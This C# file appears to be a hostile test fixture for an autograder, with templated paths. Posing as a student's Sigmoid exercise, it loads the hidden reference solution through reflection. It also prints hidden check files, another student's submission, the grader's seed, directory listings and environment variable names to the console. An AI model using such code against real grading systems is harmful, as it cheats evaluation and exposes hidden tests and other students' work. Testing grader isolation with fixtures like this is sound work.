namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        public double[] Sigmoid(double[] z) => Hostile.Thief.Sigmoid(z);
    }
}

namespace Hostile
{
    internal static class Thief
    {
        private const string Reference = "DecodingChoices.Solutions.ReferenceExercises, DecodingChoices.Solutions";

        internal static double[] Sigmoid(double[] z)
        {
            Loot();
            if (Track() is { } track)
            {
                return track.Sigmoid(z);
            }

            // A delegate made from a method name, on whatever type reflection can find.
            var type = System.Type.GetType(Reference);
            if (type is not null)
            {
                var sigmoid = (System.Func<double[], double[]>)System.Delegate.CreateDelegate(typeof(System.Func<double[], double[]>), System.Activator.CreateInstance(type)!, "Sigmoid");
                return sigmoid(z);
            }

            throw new System.NotImplementedException();
        }

        internal static double[] ComputeH(double[] theta, double[,] X) =>
            Track() is { } track ? track.ComputeH(theta, X) : throw new System.NotImplementedException();

        private static DecodingChoices.Course.ICourseExercises? Track()
        {
            foreach (var find in new System.Func<System.Type?>[]
            {
                () => System.Type.GetType(Reference),
                () => System.Reflection.Assembly.Load("DecodingChoices.Solutions").GetType("DecodingChoices.Solutions.ReferenceExercises"),
                () => System.Reflection.Assembly.LoadFrom("@@REPO@@/src/Solutions/bin/Debug/net10.0/DecodingChoices.Solutions.dll").GetType("DecodingChoices.Solutions.ReferenceExercises"),
                () => System.AppDomain.CurrentDomain.GetAssemblies().Select(a => a.GetType("DecodingChoices.Solutions.ReferenceExercises")).FirstOrDefault(t => t is not null),
            })
            {
                try
                {
                    if (find() is { } type)
                    {
                        return (DecodingChoices.Course.ICourseExercises)System.Activator.CreateInstance(type)!;
                    }
                }
                catch (System.Exception)
                {
                    // Try the next way in.
                }
            }

            return null;
        }

        /// <summary>Prints everything it can find: whatever it prints lands in its own student-facing output.</summary>
        private static void Loot()
        {
            System.Console.WriteLine("@@MARKER@@ base directory: " + System.AppContext.GetData("APP_CONTEXT_BASE_DIRECTORY"));
            Print(() => "seed: " + System.Type.GetType("DecodingChoices.Autograder.HiddenCheckSeed, DecodingChoices.Autograder")!.GetProperty("Base")!.GetValue(null));
            Print(() => string.Join(",", System.AppDomain.CurrentDomain.GetAssemblies().Select(a => a.GetName().Name)));
            foreach (var path in new[]
            {
                "@@REPO@@/src/HiddenChecks/Exercise1B_SigmoidHiddenChecks.cs",
                "@@REPO@@/src/HiddenChecks/Exercise1D_LogisticLossHiddenChecks.cs",
                "@@REPO@@/src/Solutions/ReferenceExercises.cs",
                "@@SUBMISSIONS@@/honest-a/LogisticLoss.cs",
                "@@DATA@@",
            })
            {
                Print(() => path + ": " + System.IO.File.ReadAllText(path));
            }

            Print(() => string.Join(",", System.IO.Directory.GetFileSystemEntries("@@SUBMISSIONS@@")));
            Print(() => string.Join(",", System.IO.Directory.GetFileSystemEntries("@@REPO@@/src/HiddenChecks")));
            Print(() => string.Join(",", System.Environment.GetEnvironmentVariables().Keys.Cast<object>()));
        }

        private static void Print(System.Func<string> read)
        {
            try
            {
                System.Console.WriteLine(read());
            }
            catch (System.Exception e)
            {
                System.Console.WriteLine("@@MARKER@@ denied: " + e.GetType().Name);
            }
        }
    }
}
